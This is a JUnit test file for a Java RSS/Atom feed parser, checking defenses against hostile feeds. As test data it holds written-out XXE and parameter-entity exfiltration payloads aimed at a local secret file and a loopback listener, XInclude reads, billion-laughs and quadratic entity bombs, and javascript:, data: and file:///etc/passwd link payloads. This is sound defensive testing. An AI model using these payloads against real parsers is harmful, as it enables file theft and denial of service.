package io.newswatch.ingest.feed;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.newswatch.ingest.LoopbackListener;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile feeds: nothing outside the body is read or connected to, expansion and nesting are bounded, and every
 * case finishes (the timeout is only a hang guard).
 */
class FeedHostileTest {

    private static final Duration HANG_GUARD = Duration.ofSeconds(30);
    private static final URI LOCATION = URI.create("https://hostile.example.test/feed.xml");
    private static final String SECRET = "TOP-SECRET-7f3a9c";

    @TempDir
    Path dir;
    private Path secretFile;
    private LoopbackListener listener;
    private final FeedParser parser = new FeedParser();

    @BeforeEach
    void setUp() throws IOException {
        secretFile = Files.writeString(dir.resolve("secret.txt"), SECRET);
        listener = new LoopbackListener();
    }

    @AfterEach
    void tearDown() throws IOException {
        listener.close();
    }

    /** Name, document; {@code FILE} and {@code LOOP} are replaced by the secret file's URI and the listener's URL. */
    static Stream<Arguments> outsideReaders() {
        String item = "<item><title>&xxe;</title><link>https://ok.example/1</link><description>d</description></item>";
        return Stream.of(
                Arguments.of("XXE to a file", "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"FILE\">]>"
                        + "<rss version=\"2.0\"><channel><title>t</title>" + item + "</channel></rss>"),
                Arguments.of("XXE to a loopback URL", "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"LOOP/xxe\">]>"
                        + "<rss version=\"2.0\"><channel><title>t</title>" + item + "</channel></rss>"),
                Arguments.of("external DTD", "<!DOCTYPE rss SYSTEM \"LOOP/evil.dtd\">"
                        + "<rss version=\"2.0\"><channel><title>&leaked;</title><item><title>x</title></item></channel></rss>"),
                Arguments.of("public DTD", "<!DOCTYPE rss PUBLIC \"-//Evil//DTD//EN\" \"LOOP/public.dtd\">"
                        + "<rss version=\"2.0\"><channel><title>t</title><item><title>x</title></item></channel></rss>"),
                Arguments.of("external parameter entity", "<!DOCTYPE rss [<!ENTITY % remote SYSTEM \"LOOP/p.dtd\"> %remote;]>"
                        + "<rss version=\"2.0\"><channel><title>t</title><item><title>x</title></item></channel></rss>"),
                Arguments.of("parameter entity exfiltration", "<!DOCTYPE rss [<!ENTITY % file SYSTEM \"FILE\">"
                        + "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'LOOP/?x=%file;'>\"> %eval; %exfil;]>"
                        + "<rss version=\"2.0\"><channel><title>t</title><item><title>x</title></item></channel></rss>"),
                Arguments.of("XInclude", "<rss version=\"2.0\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><channel>"
                        + "<title>t</title><item><title>x</title><description><xi:include href=\"FILE\" parse=\"text\"/>"
                        + "<xi:include href=\"LOOP/xi\" parse=\"text\"/></description></item></channel></rss>"),
                Arguments.of("stylesheet", "<?xml-stylesheet type=\"text/xsl\" href=\"LOOP/style.xsl\"?>"
                        + "<rss version=\"2.0\"><channel><title>t</title><item><title>x</title></item></channel></rss>"),
                Arguments.of("XXE in broken XML (lenient path)", "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"FILE\">]>"
                        + "<rss version=\"2.0\"><channel><title>t</title>" + item + "<item><title>&xxe; <b></channel>"),
                Arguments.of("XXE in an Atom feed", "<!DOCTYPE feed [<!ENTITY xxe SYSTEM \"FILE\"><!ENTITY yyy SYSTEM \"LOOP/a\">]>"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>&xxe;&yyy;</title><id>x</id>"
                        + "<entry><title>&xxe;</title><id>y</id><summary>&yyy;</summary></entry></feed>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("outsideReaders")
    void shouldNeverReadFilesOrConnectOutsideTheBody(String name, String template) {
        String document = template.replace("FILE", secretFile.toUri().toString()).replace("LOOP", listener.url(""));

        String outcome = assertTimeoutPreemptively(HANG_GUARD, () -> describe(document));

        assertFalse(outcome.contains(SECRET), name + ": file content leaked: " + outcome);
        assertFalse(outcome.contains(LoopbackListener.MARKER), name + ": listener content leaked: " + outcome);
        assertEquals(0, listener.accepted(), name + ": connections reached the loopback listener");
    }

    @Test
    void shouldRefuseBillionLaughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE rss [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"")
                    .append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        dtd.append("]>");
        String document = dtd + "<rss version=\"2.0\"><channel><title>&lol9;</title></channel></rss>";

        FeedException e = assertTimeoutPreemptively(HANG_GUARD, () -> assertThrows(FeedException.class, () -> parse(document)));

        assertTrue(e.reason().startsWith("refused"), "refused as an entity bomb: " + e.getMessage());
    }

    @ParameterizedTest(name = "{0} references of {1} chars")
    @MethodSource("quadratic")
    void shouldRefuseQuadraticBlowup(int references, int entityChars) {
        String document = "<!DOCTYPE rss [<!ENTITY a \"" + "a".repeat(entityChars) + "\">]>"
                + "<rss version=\"2.0\"><channel><title>t</title><item><description>"
                + "&a;".repeat(references) + "</description></item></channel></rss>";

        FeedException e = assertTimeoutPreemptively(HANG_GUARD, () -> assertThrows(FeedException.class, () -> parse(document)));

        assertTrue(e.reason().startsWith("refused"), "refused as an entity blowup: " + e.getMessage());
    }

    static Stream<Arguments> quadratic() {
        return Stream.of(Arguments.of(50_000, 50_000), Arguments.of(5_000, 100_000));
    }

    @Test
    void shouldRefuseDeepNestingQuickly() {
        int depth = 100_000;
        String document = "<rss version=\"2.0\"><channel><title>t</title><item><description>"
                + "<a>".repeat(depth) + "x" + "</a>".repeat(depth) + "</description></item></channel></rss>";

        FeedException e = assertTimeoutPreemptively(HANG_GUARD, () -> assertThrows(FeedException.class, () -> parse(document)));

        assertTrue(e.reason().startsWith("refused"), "refused for depth: " + e.getMessage());
        assertTrue(e.getMessage().contains(LOCATION.toString()), "names the feed: " + e.getMessage());
    }

    @Test
    void shouldRefuseDeepNestingInBrokenXml() {
        String document = "<rss version=\"2.0\"><channel><title>a & b</title><item><description>" + "<a>".repeat(100_000);

        FeedException e = assertTimeoutPreemptively(HANG_GUARD, () -> assertThrows(FeedException.class, () -> parse(document)));

        assertTrue(e.reason().startsWith("refused"), "refused for depth on the lenient path: " + e.getMessage());
    }

    @Test
    void shouldRefuseA50MiBTextNodeUnderDefaultLimits() {
        byte[] body = hugeTextNodeFeed(50 * 1024 * 1024);

        FeedException e = assertTimeoutPreemptively(HANG_GUARD,
                () -> assertThrows(FeedException.class, () -> parser.parse(body, LOCATION, null)));

        assertTrue(e.reason().contains("exceeds the limit"), "refused by size: " + e.getMessage());
    }

    @Test
    void shouldParseA50MiBTextNodeWhenTheLimitAllowsIt() throws Exception {
        int size = 50 * 1024 * 1024;
        byte[] body = hugeTextNodeFeed(size);
        FeedParser generous = new FeedParser(FeedLimits.builder().maxBytes(64L * 1024 * 1024).build());

        ParsedFeed feed = assertTimeoutPreemptively(HANG_GUARD, () -> generous.parse(body, LOCATION, null));

        assertEquals(1, feed.entries().size());
        assertEquals(size, feed.entries().get(0).summary().length(), "the whole text node is kept");
    }

    static Stream<Arguments> scriptLinks() {
        return Stream.of("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)",
                        "java&#x0A;script:alert(1)", "jav&#x0D;ascript:alert(1)", "  javascript:alert(1)",
                        "&#x20;&#x09;javascript:alert(1)", "&#x01;javascript:alert(1)", "vbscript:msgbox(1)",
                        "VBScript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                        "file:///etc/passwd", "FILE:///etc/passwd", "jar:file:///x.jar!/a", "mailto:a@b.c",
                        "http:/no-host", "https://")
                .map(Arguments::of);
    }

    static Stream<Arguments> scriptLinksInBothFormats() {
        String rss = "<rss version=\"2.0\"><channel><title>t</title><link>https://site.example/</link>"
                + "<item><title>x</title><link>LINK</link></item></channel></rss>";
        String atom = "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"https://site.example/\">"
                + "<title>t</title><id>f</id><entry><title>x</title><id>e</id><link href=\"LINK\"/></entry></feed>";
        return scriptLinks().flatMap(link -> Stream.of(
                Arguments.of("RSS", link.get()[0], rss), Arguments.of("Atom", link.get()[0], atom)));
    }

    @ParameterizedTest(name = "{0} link {1}")
    @MethodSource("scriptLinksInBothFormats")
    void shouldDropNonWebLinks(String format, String link, String template) throws Exception {
        ParsedFeed feed = parse(template.replace("LINK", link));

        assertNull(feed.entries().get(0).link(), format + " link " + link + " dropped");
        assertEquals(1, feed.droppedLinks(), "the dropped link is counted");
    }

    @Test
    void shouldNotConnectToLoopbackArticleLinksWhileParsing() throws Exception {
        ParsedFeed feed = parse("<rss version=\"2.0\"><channel><title>t</title><item><title>x</title><link>"
                + listener.url("/article") + "</link></item></channel></rss>");

        assertEquals(URI.create(listener.url("/article")), feed.entries().get(0).link(),
                "parsing keeps http links; the fetcher's AddressGuard decides on fetching");
        assertEquals(0, listener.accepted(), "parsing never fetches article links");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "<", "<rss", "<?xml version=\"1.0\"?>", "\u0000\u0000\u0000"})
    void shouldFailCleanlyOnFragments(String document) {
        FeedException e = assertThrows(FeedException.class, () -> parse(document));

        assertTrue(e.getMessage().startsWith("feed " + LOCATION + ": "), "one line naming the feed: " + e.getMessage());
    }

    private static byte[] hugeTextNodeFeed(int size) {
        byte[] head = "<rss version=\"2.0\"><channel><title>t</title><item><title>big</title><description>"
                .getBytes(StandardCharsets.US_ASCII);
        byte[] tail = "</description></item></channel></rss>".getBytes(StandardCharsets.US_ASCII);
        byte[] body = new byte[head.length + size + tail.length];
        System.arraycopy(head, 0, body, 0, head.length);
        java.util.Arrays.fill(body, head.length, head.length + size, (byte) 'x');
        System.arraycopy(tail, 0, body, head.length + size, tail.length);
        return body;
    }

    private ParsedFeed parse(String document) throws FeedException {
        return parser.parse(document.getBytes(StandardCharsets.UTF_8), LOCATION, null);
    }

    private String describe(String document) {
        try {
            ParsedFeed feed = parse(document);
            return feed.toString();
        } catch (FeedException e) {
            return e.getMessage() + " " + (e.getCause() == null ? "" : e.getCause().getMessage());
        }
    }
}
